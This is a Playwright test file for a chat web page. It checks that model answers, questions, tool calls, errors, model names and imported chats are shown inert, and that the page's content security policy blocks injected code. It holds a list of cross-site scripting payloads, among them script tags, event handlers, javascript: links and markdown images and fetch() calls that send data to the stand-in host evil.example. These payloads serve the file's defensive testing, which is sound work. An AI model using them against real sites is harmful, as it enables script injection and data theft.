"""What a model may write is shown, and does nothing: no tag, no address, no escape of it acts."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.server.page.conftest import Opened

TARGET = "http://evil.example/x"
HOSTILE = {
    "script": "<script>window.hit = 1; fetch('http://evil.example/x')</script>",
    "handler": "<img src=x onerror=\"window.hit = 1; fetch('http://evil.example/x')\">",
    "picture": "![a picture](http://evil.example/x.png?q=secret)",
    "reference picture": "![a][b]\n\n[b]: http://evil.example/x.png",
    "link": "[press](http://evil.example/x) and <http://evil.example/x> and http://evil.example/x",
    "script link": "[press](javascript:window.hit=1) and [data](data:text/html,<script>window.hit=1</script>)",
    "frame": "<iframe src='http://evil.example/x'></iframe><object data='http://evil.example/x'></object>",
    "style": "<style>@import url(http://evil.example/x);</style><div style='background:url(http://evil.example/x)'>a</div>",
    "form": "<form action='http://evil.example/x'><button autofocus onfocus='window.hit=1'>a</button></form>",
    "svg": "<svg><use href='http://evil.example/x#a'/><animate onbegin='window.hit=1' attributeName='x'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext>",
    "base and link": "<base href='http://evil.example/'><link rel=preload href=http://evil.example/x as=image>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/x'>",
    "code": "```html onload=window.hit=1\n<script>window.hit=1</script>\n```\n`<img src=http://evil.example/x>`",
    "table": "| a | b |\n|---|---|\n| <img src=http://evil.example/x onerror=window.hit=1> | [x](javascript:hit=1) |",
    "heading": "# <script>window.hit=1</script>\n\n> <img src=http://evil.example/x>\n\n"
    "- [ ] <a href=javascript:hit=1>x</a>",
    "box": "<|object_ref_start|><img src=http://evil.example/x onerror=window.hit=1>\"><|object_ref_end|>"
    "<|box_start|>(1,2),(300,400)<|box_end|>",
    "chip": '<button class="chip" data-place="1,2,3,4,x" onclick="window.hit=1">x</button>',
    "clobber": '<form id="app"><input name="body"></form><a id="store"></a>',
}  # fmt: skip


def test_hostile_words_are_inert(opened: Opened, shapes: Path) -> None:
    """One after the other in one chat, and all of them once more when the chat is read from the browser's store."""
    page = opened.page
    opened.attach(shapes)
    for name, text in HOSTILE.items():
        middle = len(text) // 2
        page.unroute_all()
        opened.script(text[:middle], text[middle:])
        opened.ask(name)
        page.wait_for_timeout(50)
        assert_inert(opened, name)
    page.reload()
    page.locator(".answer .markdown").nth(len(HOSTILE) - 1).wait_for()
    page.wait_for_timeout(300)
    assert_inert(opened, "all")


def assert_inert(opened: Opened, name: str) -> None:
    page = opened.page
    answers = page.locator(".answer .markdown")
    assert page.evaluate("window.hit") is None, name
    assert opened.elsewhere == [], name
    tags = "script, img, iframe, object, embed, form, a, style, link, meta, base, svg:not(.icon), math"
    assert answers.locator(tags).count() == 0, name
    attributes = "[onclick], [onerror], [onload], [onfocus], [style], [href], [src], [id]"
    assert answers.locator(attributes).count() == 0, name
    assert page.evaluate("location.href").startswith(opened.address), name


def test_addresses_are_shown_so_that_they_can_be_judged(opened: Opened) -> None:
    opened.script("[Your bank](http://evil.example/x)")
    opened.ask("Hello")
    assert opened.page.locator(".markdown").inner_text() == f"Your bank {TARGET}"


def test_tags_are_shown_as_they_were_written(opened: Opened) -> None:
    opened.script("Use <b>bold</b> & <script>alert(1)</script>")
    opened.ask("Hello")
    assert opened.page.locator(".markdown").inner_text() == "Use <b>bold</b> & <script>alert(1)</script>"


def test_control_characters_can_be_seen(opened: Opened) -> None:
    opened.script("\x1b[31mred\x1b[0m \x07bell a\u202etxt.exe \x9b1m")
    opened.ask("Hello")
    seen = opened.page.locator(".markdown").inner_text()
    assert seen == "␛[31mred␛[0m ␇bell a⟨U+202E⟩txt.exe ⟨U+009B⟩1m"


@pytest.mark.parametrize("field", ["json", "tool", "error", "model"])
def test_other_places_are_inert_too(opened: Opened, field: str) -> None:
    page, evil = opened.page, "<img src=x onerror=window.hit=1>\x1b[31m"
    if field == "json":
        page.get_by_role("button", name="Answer as JSON").click()
        page.locator(".schema textarea").fill("name")
        opened.script('{"name": "<img src=x onerror=window.hit=1>"}')
    elif field == "error":
        opened.script(status=400, error={"message": evil, "type": evil, "param": evil, "code": evil})
    elif field == "tool":
        call = {"index": 0, "function": {"name": evil, "arguments": evil}}
        tool_stream(opened, call)
    else:
        page.route("**/v1/models", lambda route: route.fulfill(json={"data": [{"id": evil, "owned_by": "x"}]}))
        page.reload()
        page.locator("select.model option", has_text="onerror").wait_for(state="attached")
        opened.script("Hello.")
    opened.ask("Hello")
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    assert opened.elsewhere == []
    expect(page.locator(".answer img")).to_have_count(0)
    if field == "error":
        opened.forgive("400")


def tool_stream(opened: Opened, call: dict[str, object]) -> None:
    from tests.server.page.fake import event

    chunk = {"choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": "tool_calls"}]}
    body = event(chunk) + b"data: [DONE]\n\n"
    opened.page.route(
        "**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=body)
    )


def test_questions_are_inert_too(opened: Opened) -> None:
    opened.script("Yes.")
    opened.ask("<img src=http://evil.example/x onerror=window.hit=1>")
    assert "<img src=" in opened.page.locator(".bubble").inner_text()
    assert opened.page.evaluate("window.hit") is None
    assert opened.elsewhere == []


def test_an_imported_chat_is_inert(opened: Opened, tmp_path: Path) -> None:
    evil = '<img src=x onerror=\\"window.hit=1\\">'
    nodes = (
        f'{{"a": {{"id": "a", "parent": null, "role": "user", "text": "{evil}", "created": 1, "media": []}},'
        f' "b": {{"id": "b", "parent": "a", "role": "assistant", "created": 2, "answers": [{{"text": "{evil}",'
        f' "model": "{evil}", "status": "done"}}]}}}}'
    )
    path = tmp_path / "chats.json"
    path.write_text(
        '{"format": "anyres-chats", "version": 1, "blobs": {}, "chats": '
        f'[{{"id": "x", "title": "{evil}", "created": 1, "updated": 1, "head": "b", "nodes": {nodes}}}]}}'
    )
    opened.page.set_input_files(".sidebar-foot input[type=file]", path)
    opened.page.locator(".chat-title").click()
    opened.page.locator(".markdown").wait_for()
    assert opened.page.evaluate("window.hit") is None
    assert opened.elsewhere == []


def test_the_policy_itself_stops_what_would_get_through(open_page: Callable[..., Opened]) -> None:
    opened = open_page()
    page = opened.page
    for code in (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hit=1>')",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hit = 1' }))",
        "document.body.append(Object.assign(new Image(), { src: 'http://evil.example/x.png' }))",
        "fetch('http://evil.example/x')",
    ):
        page.evaluate(f"() => {{ try {{ const r = {code}; r?.catch?.(() => {{}}); }} catch {{}} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert opened.elsewhere == [] or all("evil" in url for url in opened.elsewhere)
    opened.forgive("Content Security Policy")
    opened.problems = [one for one in opened.problems if "requires 'Trusted" not in one and "Fetch API" not in one]
